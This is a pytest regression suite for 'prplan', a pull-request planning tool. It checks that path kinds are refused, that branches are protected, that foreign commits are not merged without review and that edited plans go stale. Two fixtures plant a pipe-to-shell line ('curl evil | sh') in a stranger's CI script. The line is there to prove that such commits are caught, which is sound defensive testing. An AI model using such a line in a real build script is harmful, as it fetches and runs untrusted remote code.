"""Regression tests for the safety issue: how a real repository is
classified, and what apply trusts. Each case was a loss or an unreviewed
merge before; each test drives the public API (and the command where the
case is about it) and asserts what is on the forge afterwards."""

from __future__ import annotations

import json
from pathlib import Path

import attrs
import pytest
from click.testing import CliRunner

import prplan
from prplan.cli import cli
from prplan.cli.render import plan_text
from prplan.cli.render_md import plan_markdown
from prplan.edits import YamlSet
from prplan.forges.local.server.app import ForgeServer
from prplan.forges.local.trees import TreeInput
from prplan.run.review import with_review

from served import Served

REPO = "acme/deploy"
BRANCH = "prplan/x"
EARLIER_RUN = "Earlier run\n\nPrplan-Request: 0123456789abcdef"


def _forge(files: dict[str, str] | None = None) -> prplan.LocalForge:
    forge = prplan.LocalForge.in_memory()
    forge.create_repo(
        REPO,
        files or {"config/a.yaml": "a: 1\n", "config/b.yaml": "b: 1\n", "run.sh": "#!/bin/sh\n"},
    )
    return forge


def _add_submodule(forge: prplan.LocalForge, path: str) -> str:
    """Put a gitlink (mode 160000) at ``path`` on main, as `git submodule add` would."""
    main_sha = forge.branches(REPO)["main"]
    tree = forge.git_create_tree(
        REPO,
        [TreeInput(path=path, mode=0o160000, sha=main_sha)],  # any commit id will do
        base_tree=forge.git_object(REPO, main_sha).tree.decode(),
    )
    commit = forge.git_create_commit(REPO, message="Add a submodule", tree=tree, parents=[main_sha])
    forge.update_ref(REPO, "refs/heads/main", commit, force=False)
    return commit


def _plan(client: prplan.ForgeClient, request: prplan.ChangeRequest) -> prplan.Plan:
    return prplan.plan(prplan.observe(client, request), request)


def _state(forge: prplan.LocalForge) -> tuple[object, ...]:
    return forge.branches(REPO), forge.pull_rows(REPO), forge.files(REPO, "main")


# --- 1. a directory, a submodule, a path under a file -------------------------------


@pytest.mark.parametrize(
    ("files", "kind"),
    [
        ({"config": b"x"}, "directory"),
        ({"config": None}, "directory"),
        ({"run.sh/inner": b"x"}, "inside a file"),
        ({"vendor/lib": b"x"}, "submodule"),
        ({"vendor/lib/file.txt": b"x"}, "inside a file"),
    ],
    ids=["write-dir", "delete-dir", "under-file", "write-submodule", "under-submodule"],
)
@pytest.mark.parametrize("allow_modification", [True, False])
def test_a_path_that_is_not_a_file_is_refused_not_overwritten(
    files: dict[str, bytes | None], kind: str, allow_modification: bool
) -> None:
    forge = _forge()
    _add_submodule(forge, "vendor/lib")
    before = _state(forge)
    request = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files=files, automerge=True, allow_modification=allow_modification
    )
    plan = _plan(forge, request)
    assert plan.refusal is not None, plan.actions
    assert plan.refusal.code is prplan.RefusalCode.PATH_NOT_A_FILE
    assert kind in plan.refusal.message and next(iter(files)) in plan.refusal.message
    assert prplan.apply(plan, forge).status is prplan.OutcomeStatus.REFUSED
    assert _state(forge) == before
    assert forge.read_file(REPO, "main", "config/a.yaml") == b"a: 1\n"


def test_a_directory_pushed_on_the_branch_is_refused_too() -> None:
    forge = _forge({"app.yaml": "a: 1\n"})
    forge.push(REPO, BRANCH, {"settings/one.yaml": "x\n"}, message="A human's directory")
    forge.open_pr(REPO, BRANCH)
    request = prplan.ChangeRequest(repo=REPO, branch=BRANCH, files={"settings": b"flat\n"})
    plan = _plan(forge, request)
    assert plan.refusal is not None
    assert plan.refusal.code is prplan.RefusalCode.PATH_NOT_A_FILE
    assert "on branch" in plan.refusal.message


def test_an_edited_symlink_is_refused() -> None:
    forge = _forge({"real.yaml": "a: 1\n"})
    main_sha = forge.branches(REPO)["main"]
    tree = forge.git_create_tree(
        REPO,
        [TreeInput(path="link.yaml", mode=0o120000, content=b"real.yaml")],
        base_tree=forge.git_object(REPO, main_sha).tree.decode(),
    )
    commit = forge.git_create_commit(REPO, message="link", tree=tree, parents=[main_sha])
    forge.update_ref(REPO, "refs/heads/main", commit, force=False)
    request = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"link.yaml": YamlSet(path="a", value="2")}
    )
    plan = _plan(forge, request)
    assert plan.refusal is not None and plan.refusal.code is prplan.RefusalCode.PATH_NOT_A_FILE
    assert "symlink" in plan.refusal.message


def test_both_clients_classify_every_kind_of_path_alike(forge_server: ForgeServer) -> None:
    forge = _forge()
    _add_submodule(forge, "vendor/lib")
    served = Served(forge_server, forge)
    sha = forge.branches(REPO)["main"]
    paths = [
        "config", "config/a.yaml", "run.sh", "run.sh/inner", "vendor/lib", "vendor/lib/x",
        "vendor", "missing", "missing/deeper",
    ]  # fmt: skip
    direct = forge.path_entries(REPO, sha, paths)
    over_http = served.client.path_entries(REPO, sha, paths)
    assert over_http == direct
    assert {p: e.kind.value for p, e in direct.items()} == {
        "config": "directory", "config/a.yaml": "file", "run.sh": "file",
        "run.sh/inner": "under_file", "vendor/lib": "submodule", "vendor/lib/x": "under_file",
        "vendor": "directory", "missing": "absent", "missing/deeper": "absent",
    }  # fmt: skip


@pytest.mark.parametrize("files", [{"config": b"x"}, {"run.sh/inner": b"x"}, {"vendor/lib": b"x"}])
def test_over_http_the_same_refusal_and_no_server_error(
    files: dict[str, bytes], forge_server: ForgeServer
) -> None:
    forge = _forge()
    _add_submodule(forge, "vendor/lib")
    served = Served(forge_server, forge)
    request = prplan.ChangeRequest(repo=REPO, branch=BRANCH, files=files, automerge=True)
    plan = _plan(served.client, request)
    assert plan.refusal is not None and plan.refusal.code is prplan.RefusalCode.PATH_NOT_A_FILE
    assert not [e for e in served.app.log.entries if e[2] >= 500]


# --- 2. the default branch is never reset -------------------------------------------------


def test_the_default_branch_is_never_reset_whatever_branch_policy_says() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    forge.push(REPO, "release", {"app.yaml": "v: 0\n"})
    # The team commits straight to main through prplan: every commit sealed.
    forge.push(REPO, "main", {"app.yaml": "v: 2\n"}, message=EARLIER_RUN, sealed=True)
    main_before = forge.branches(REPO)["main"]
    for policy in ("safe", "reset"):
        request = prplan.ChangeRequest(
            repo=REPO, branch="main", base="release", files={"app.yaml": b"v: 3\n"},
            branch_policy=policy, automerge=True,
        )  # fmt: skip
        plan = _plan(forge, request)
        assert plan.refusal is not None, (policy, plan.actions)
        assert plan.refusal.code is prplan.RefusalCode.BRANCH_PROTECTED
        assert "default branch" in plan.refusal.message
    assert forge.branches(REPO)["main"] == main_before
    assert forge.reachable(REPO, main_before)


# --- 3. "ours" needs evidence, not a trailer ----------------------------------------------


def test_an_amended_prplan_commit_is_foreign_and_never_reset() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    first = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"}, create_pr=False
    )
    outcome = prplan.apply(_plan(forge, first), forge)
    assert outcome.commit_sha is not None
    message = forge.git_object(REPO, outcome.commit_sha).message.decode()
    # A human amends it: same message (both trailers), one more file.
    forge.set_branch(REPO, BRANCH, "main")
    amended = forge.push(
        REPO, BRANCH, {"app.yaml": "v: 2\n", "docs/runbook.md": "# keep me\n"},
        message=message.rstrip("\n"),
    )  # fmt: skip
    assert forge.git_object(REPO, amended).message.decode() == message
    second = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 3\n"}, create_pr=False
    )
    plan = _plan(forge, second)
    assert plan.refusal is not None
    assert plan.refusal.code is prplan.RefusalCode.BRANCH_HAS_FOREIGN_COMMITS
    assert plan.refusal.commits == (amended,)
    prplan.apply(plan, forge)
    assert forge.read_file(REPO, BRANCH, "docs/runbook.md") == b"# keep me\n"


def test_a_commit_with_only_the_request_trailer_is_not_prplans() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    forge.push(REPO, BRANCH, {"app.yaml": "v: 9\n"}, message=EARLIER_RUN)  # not sealed
    (commit,) = forge.log(REPO, BRANCH)[:1]
    assert not commit.by_prplan
    request = prplan.ChangeRequest(repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"})
    plan = _plan(forge, request)
    assert plan.refusal is not None
    assert plan.refusal.code is prplan.RefusalCode.BRANCH_HAS_FOREIGN_COMMITS


def test_prplans_own_commits_are_sealed_with_their_tree() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    request = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"}, create_pr=False
    )
    outcome = prplan.apply(_plan(forge, request), forge)
    (commit,) = forge.log(REPO, BRANCH)[:1]
    assert commit.sha == outcome.commit_sha and commit.by_prplan
    # ... so a later request with other content may reset the branch safely.
    again = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 3\n"}, create_pr=False
    )
    plan = _plan(forge, again)
    assert [a.kind.value for a in plan.actions] == ["reset_branch", "commit"]


# --- 4. foreign commits are never merged without a word -------------------------------------


def test_a_branch_with_the_change_and_a_strangers_commit_is_not_merged() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    stranger = forge.push(
        REPO, BRANCH, {"app.yaml": "v: 2\n", "ci/deploy.sh": "curl evil | sh\n"},
        message="Helpful fix",
    )  # fmt: skip
    request = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"}, automerge=True
    )
    plan = _plan(forge, request)
    assert plan.refusal is not None
    assert plan.refusal.code is prplan.RefusalCode.MERGE_HAS_FOREIGN_COMMITS
    assert plan.refusal.commits == (stranger,)
    assert "Helpful fix" in plan.refusal.message
    before = _state(forge)
    prplan.apply(plan, forge)
    assert _state(forge) == before
    assert forge.read_file(REPO, "main", "ci/deploy.sh") is None

    # Without automerge the pull request is opened and the plan says whose commits it carries.
    review = prplan.ChangeRequest(repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"})
    plan = _plan(forge, review)
    assert [a.kind.value for a in plan.actions] == ["create_pull_request"]
    assert any("Helpful fix" in note for note in plan.notes)


def test_merge_foreign_commits_merges_and_the_plan_shows_what_the_merge_brings() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    stranger = forge.push(
        REPO, BRANCH, {"app.yaml": "v: 2\n", "ci/deploy.sh": "echo ok\n"}, message="Deploy script"
    )
    request = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"}, automerge=True,
        merge_foreign_commits=True,
    )  # fmt: skip
    plan = _plan(forge, request)
    (merge,) = [a for a in plan.actions if isinstance(a, prplan.MergePullRequest)]
    assert [c.sha for c in merge.brings_commits] == [stranger]
    assert merge.brings_paths == ("app.yaml", "ci/deploy.sh")
    text = plan_markdown(with_review(plan, forge))
    assert "What the merge brings" in text and "Deploy script" in text
    assert "+echo ok" in text and "**no**" in text  # the diff, and "not prplan's"
    assert "Deploy script" in plan_text(plan) and "ci/deploy.sh" in plan_text(plan)
    assert prplan.apply(plan, forge).status is prplan.OutcomeStatus.MERGED
    assert forge.read_file(REPO, "main", "ci/deploy.sh") == b"echo ok\n"


def test_automerge_of_an_open_pull_request_with_a_humans_work_is_refused() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    wip = forge.push(REPO, BRANCH, {"notes.md": "half done\n"}, message="WIP, do not merge yet")
    forge.open_pr(REPO, BRANCH, title="Hers")
    request = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"}, automerge=True
    )
    plan = _plan(forge, request)
    assert plan.refusal is not None
    assert plan.refusal.code is prplan.RefusalCode.MERGE_HAS_FOREIGN_COMMITS
    assert plan.refusal.commits == (wip,)
    prplan.apply(plan, forge)
    assert forge.pull_requests(REPO)[0].is_open
    assert forge.read_file(REPO, "main", "notes.md") is None


# --- 5. one branch, two bases -------------------------------------------------------------


def test_a_branch_with_an_open_pull_request_into_another_base_is_not_reset() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    forge.push(REPO, "release-1.x", {"app.yaml": "v: 1\n"})
    forge.push(REPO, "main", {"unreleased.txt": "work\n"})
    first = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, base="release-1.x", files={"app.yaml": b"v: 1.1\n"}
    )
    assert prplan.apply(_plan(forge, first), forge).status is prplan.OutcomeStatus.CREATED
    head = forge.branches(REPO)[BRANCH]
    second = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, base="main", files={"app.yaml": b"v: 2\n"},
        automerge=True, branch_policy="reset",
    )  # fmt: skip
    plan = _plan(forge, second)
    assert plan.refusal is not None, plan.actions
    assert plan.refusal.code is prplan.RefusalCode.BRANCH_IN_USE
    assert plan.refusal.pull_requests == (1,) and "release-1.x" in plan.refusal.message
    prplan.apply(plan, forge)
    assert forge.branches(REPO)[BRANCH] == head
    assert forge.read_file(REPO, BRANCH, "unreleased.txt") is None


def test_a_branch_that_is_the_base_of_an_open_pull_request_is_not_committed_to() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    forge.set_branch(REPO, BRANCH, "main")
    forge.push(REPO, "feature", {"f.txt": "f\n"})
    forge.open_pr(REPO, "feature", BRANCH, title="Into the branch")
    request = prplan.ChangeRequest(repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"})
    plan = _plan(forge, request)
    assert plan.refusal is not None
    assert plan.refusal.code is prplan.RefusalCode.BRANCH_IN_USE
    assert "feature into prplan/x" in plan.refusal.message


def test_delete_branch_never_deletes_a_branch_another_pull_request_uses() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    forge.push(REPO, "release-1.x", {"app.yaml": "v: 1\n"})
    # The branch holds the change, sealed, and is also proposed into release-1.x.
    forge.push(REPO, BRANCH, {"app.yaml": "v: 2\n"}, message=EARLIER_RUN, sealed=True)
    forge.open_pr(REPO, BRANCH, "release-1.x", title="Backport")
    request = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"}, automerge=True,
        delete_branch=True,
    )  # fmt: skip
    plan = _plan(forge, request)
    assert [a.kind.value for a in plan.actions] == ["create_pull_request", "merge_pull_request"]
    assert any("other open pull requests use the branch" in n for n in plan.notes)
    assert prplan.apply(plan, forge).status is prplan.OutcomeStatus.MERGED
    assert BRANCH in forge.branches(REPO)
    assert [pr.is_open for pr in forge.pull_requests(REPO) if pr.base_branch == "release-1.x"] == [
        True
    ]


# --- 6. a base rewound after the plan -------------------------------------------------------


def test_a_base_rewound_after_the_plan_makes_it_stale() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    forge.push(REPO, "main", {"bad.txt": "to be reverted\n"}, message="Bad commit")
    request = prplan.ChangeRequest(
        repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"}, automerge=True
    )
    plan = _plan(forge, request)
    parent = forge.commit_parents(REPO, forge.branches(REPO)["main"])[0]
    forge.set_branch(REPO, "main", parent)  # force-pushed back
    with pytest.raises(prplan.StalePlanError, match="rewound or force-pushed"):
        prplan.apply(plan, forge)
    assert forge.read_file(REPO, "main", "bad.txt") is None
    assert BRANCH not in forge.branches(REPO)


def test_a_saved_plan_against_a_rewound_base_exits_4(tmp_path: Path) -> None:
    data = tmp_path / "forge"
    forge = prplan.LocalForge.open(data)
    forge.create_repo(REPO, {"app.yaml": "v: 1\n"})
    forge.push(REPO, "main", {"bad.txt": "x\n"}, message="Bad commit")
    parent = forge.commit_parents(REPO, forge.branches(REPO)["main"])[0]
    forge.close()
    (tmp_path / "app.yaml").write_text("v: 2\n")
    runner = CliRunner()
    common = ["--local", str(data)]
    out = tmp_path / "plan.json"
    result = runner.invoke(
        cli,
        ["plan", "--repo", REPO, *common, "--branch", BRANCH, "--automerge",
         "--file", f"app.yaml={tmp_path / 'app.yaml'}", "--out", str(out)],
    )  # fmt: skip
    assert result.exit_code == 2, result.output
    assert json.loads(out.read_text())["observed"]["base_sha"]
    forge = prplan.LocalForge.open(data)
    forge.set_branch(REPO, "main", parent)
    forge.close()
    result = runner.invoke(cli, ["apply", str(out), *common])
    assert result.exit_code == 4, result.output
    assert "rewound" in result.output
    forge = prplan.LocalForge.open(data)
    assert forge.read_file(REPO, "main", "bad.txt") is None
    forge.close()


# --- an edited observation cannot pass the recheck (independent review) ---------------------


def _retold(plan: prplan.Plan, **observed: object) -> prplan.Plan:
    """The plan re-derived offline from an edited observation: what someone
    without the plan key could produce (digest and integrity both fine)."""
    edited = attrs.evolve(plan.observed, **observed)
    return prplan.Plan.from_json(prplan.plan(edited, plan.request).to_json())


@pytest.mark.parametrize(
    "claim",
    ["branch_in_base", "default_branch", "base_contents", "paths_beyond_base"],
)
def test_a_plan_whose_observation_was_edited_is_stale(claim: str) -> None:
    forge = _forge({"app.yaml": "a: 1\n"})
    human = forge.push(
        REPO, BRANCH, {"app.yaml": "a: 2\n", "ci/deploy.sh": "curl | sh\n"}, message="Human work"
    )
    files: dict[str, object] = {"app.yaml": b"a: 3\n"}
    flags: dict[str, object] = {"create_pr": False}
    edits: dict[str, object] = {}
    if claim == "branch_in_base":
        edits = {"branch_in_base": True}  # "nothing of its own": disposable
    elif claim == "default_branch":
        forge.push(REPO, "release", {"r.txt": "r\n"})
        flags = {"create_pr": False, "base": "release", "branch_policy": "reset"}
        files = {"app.yaml": b"a: 3\n"}
        edits = {"default_branch": "trunk"}
    elif claim == "base_contents":
        files = {"app.yaml": YamlSet(path="a", value="2")}
        edits = {"base_contents": {"app.yaml": b"a: 1\nevil: yes\n"}}
    else:
        forge.set_branch(REPO, BRANCH, "main")
        human = forge.push(
            REPO, BRANCH, {"app.yaml": "a: 3\n", "ci/deploy.sh": "x\n"}, message="Stranger"
        )
        flags = {"automerge": True, "merge_foreign_commits": True}
        edits = {"paths_beyond_base": ("app.yaml",)}
    branch = {"default_branch": "main", "base_contents": "prplan/fresh"}.get(claim, BRANCH)
    request = prplan.ChangeRequest(repo=REPO, branch=branch, files=files, **flags)  # type: ignore[arg-type]
    honest = _plan(forge, request)
    assert honest.refusal is None or claim != "base_contents"
    edited = _retold(honest, **edits)
    assert edited.actions  # the edited observation makes a plan that writes
    before = _state(forge)
    with pytest.raises(prplan.StalePlanError):
        prplan.apply(edited, forge)
    assert _state(forge) == before
    assert forge.reachable(REPO, human)


def test_a_commit_to_a_base_that_heads_another_pull_request_is_refused() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    forge.push(REPO, "release", {"rel.txt": "r\n"})
    forge.open_pr(REPO, "release", "main", title="Release")
    head = forge.branches(REPO)["release"]
    request = prplan.ChangeRequest(
        repo=REPO, branch="release", base="release", files={"app.yaml": b"v: 9\n"},
        create_pr=False,
    )  # fmt: skip
    plan = _plan(forge, request)
    assert plan.refusal is not None and plan.refusal.code is prplan.RefusalCode.BRANCH_IN_USE
    prplan.apply(plan, forge)
    assert forge.branches(REPO)["release"] == head


# --- through the command ---------------------------------------------------------------------


def _cli_forge(tmp_path: Path) -> tuple[Path, str]:
    data = tmp_path / "forge"
    forge = prplan.LocalForge.open(data)
    forge.create_repo(REPO, {"app.yaml": "v: 1\n", "config/a.yaml": "a: 1\n"})
    stranger = forge.push(
        REPO, BRANCH, {"app.yaml": "v: 2\n", "ci/deploy.sh": "echo ok\n"}, message="Deploy script"
    )
    forge.close()
    (tmp_path / "app.yaml").write_text("v: 2\n")
    return data, stranger


def test_the_command_refuses_a_directory_and_a_foreign_merge_then_merges_when_asked(
    tmp_path: Path,
) -> None:
    data, stranger = _cli_forge(tmp_path)
    runner = CliRunner()
    common = ["--repo", REPO, "--local", str(data), "--branch", BRANCH]
    directory = runner.invoke(cli, ["plan", *common, "--file", f"config={tmp_path / 'app.yaml'}"])
    assert directory.exit_code == 3, directory.output
    assert "path_not_a_file" in directory.output and "config is a directory" in directory.output
    change = ["--file", f"app.yaml={tmp_path / 'app.yaml'}", "--automerge", "--yes"]
    refused = runner.invoke(cli, ["apply", *common, *change])
    assert refused.exit_code == 3, refused.output
    assert "merge_has_foreign_commits" in refused.output and stranger[:7] in refused.output
    merged = runner.invoke(cli, ["apply", *common, *change, "--merge-foreign-commits"])
    assert merged.exit_code == 0, merged.output
    forge = prplan.LocalForge.open(data)
    assert forge.read_file(REPO, "main", "ci/deploy.sh") == b"echo ok\n"
    assert forge.read_file(REPO, "main", "config/a.yaml") == b"a: 1\n"
    forge.close()


class _TwinBetweenReads:
    """A forge client through which a twin run creates the branch and its
    pull request right after prplan read the branch as absent."""

    def __init__(self, forge: prplan.LocalForge) -> None:
        self.forge, self.done = forge, False

    def __getattr__(self, name: str) -> object:
        return getattr(self.forge, name)

    def branch(self, repo: str, branch: str) -> object:
        found = self.forge.branch(repo, branch)
        if branch == BRANCH and not self.done:  # base is read first: not that one
            self.done = True
            self.forge.push(repo, branch, {"app.yaml": "v: 2\n"}, message=EARLIER_RUN, sealed=True)
            self.forge.open_pr(repo, branch)
        return found


def test_a_branch_made_between_two_reads_is_read_again_not_refused() -> None:
    forge = _forge({"app.yaml": "v: 1\n"})
    request = prplan.ChangeRequest(repo=REPO, branch=BRANCH, files={"app.yaml": b"v: 2\n"})
    snapshot = prplan.observe(_TwinBetweenReads(forge), request)  # type: ignore[arg-type]
    assert snapshot.branch_sha == forge.branches(REPO)[BRANCH]
    plan = prplan.plan(snapshot, request)
    assert plan.refusal is None and plan.rule == "open_current_review"
